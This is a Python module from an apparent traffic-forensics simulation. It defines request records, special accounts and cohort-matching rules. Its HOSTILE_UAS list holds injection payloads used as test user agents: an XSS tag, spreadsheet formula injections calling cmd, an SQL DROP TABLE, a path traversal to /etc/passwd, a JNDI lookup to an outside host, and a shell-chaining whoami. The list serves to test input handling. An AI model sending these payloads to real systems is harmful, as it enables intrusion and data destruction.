"""Who sends what: the client request record, the special accounts, and the cohorts they form."""

from __future__ import annotations

from dataclasses import dataclass, field
from datetime import UTC, datetime

from forensics.simulate.cohorts import Cohort
from forensics.simulate.config import S, SimConfig

CUSTOMER_UAS = [
    "openai-python/1.99.1",
    "curl/8.9.1",
    "python-httpx/0.28.1",
    "langchain/0.3.27",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/139.0 Safari/537.36",
    "node-fetch/3.3.2",
    "Go-http-client/2.0",
    "okhttp/4.12.0",
]
HOSTILE_UAS = [
    "<script>alert(1)</script>",
    "=cmd|' /C calc'!A0",
    '"; DROP TABLE responses; --',
    'Mozilla/5.0 "quoted", with, commas',
    "../../../etc/passwd",
    "${jndi:ldap://203.0.113.66/a} {{7*7}}",
    "+SUM(1+1)*cmd|' /C notepad'!A1",
    "|| whoami # \u202e\u0074\u0078\u0074",
]
INTERNAL_LOAD = "acct-int-loadtest"
INTERNAL_PERF = "acct-int-perf"  # load generator on a second account: matched by user agent only
QA_ACCOUNT = "acct-5e0c77"  # staff canary account, matched by header only
RESEARCHER = "acct-3c9e1f"
RESEARCHER_ALT = "acct-b71d02"
RESEARCHER_IP = "192.0.2.77"
BENCH_UA = "sglang-bench/0.5.11"


@dataclass(slots=True)
class Request:
    idx: int
    request_id: str
    t0: int
    account: str
    token: str
    ip: str
    ua: str
    headers: dict[str, str] | None
    L: int
    out: int
    sp_id: int
    sp_len: int
    abort: bool
    prefill: str
    decode: str
    room: int
    rid_p: str
    rid_d: str
    gw: int
    cohort: str = "customer"
    # filled by the engine
    status: int = 0
    completion: int = 0
    t_end: int = 0
    placeholder: bool = False
    aborted: bool = False
    extra: dict[str, object] = field(default_factory=dict)

    def match_view(self, model: str) -> dict[str, object]:
        return {
            "account_id": self.account,
            "api_token_id": self.token,
            "client_ip": self.ip,
            "user_agent": self.ua,
            "headers": self.headers,
            "model": model,
            "ts_us": self.t0,
        }


def _iso_min(us: int) -> str:
    return datetime.fromtimestamp(us // (60 * S) * 60, UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


def researcher_window(cfg: SimConfig) -> tuple[str, str]:
    """[after, before) of the researcher's reproduction attempts: near the end, whole minutes."""
    after = cfg.start_us + int(cfg.duration_us * 0.85)
    before = max(cfg.start_us + int(cfg.duration_us * 0.985), after + 240 * S)
    return _iso_min(after), _iso_min(before)


def cohorts_for(cfg: SimConfig) -> list[Cohort]:
    out = [
        Cohort(
            "internal-test",
            "internal",
            [
                {"accounts": [INTERNAL_LOAD]},
                {"headers": {"x-internal-test": "1"}},
                {"user_agents": ["sglang-bench/*"]},
            ],
        )
    ]
    if cfg.researcher:
        after, before = researcher_window(cfg)
        out.append(
            Cohort(
                "researcher-repro",
                "researcher",
                [
                    {"accounts": [RESEARCHER, RESEARCHER_ALT], "after": after, "before": before},
                    {"client_cidrs": [f"{RESEARCHER_IP}/32"], "after": after, "before": before},
                ],
            )
        )
    return out


def _ts(iso: str) -> int:
    return int(round(datetime.fromisoformat(iso.replace("Z", "+00:00")).timestamp() * S))
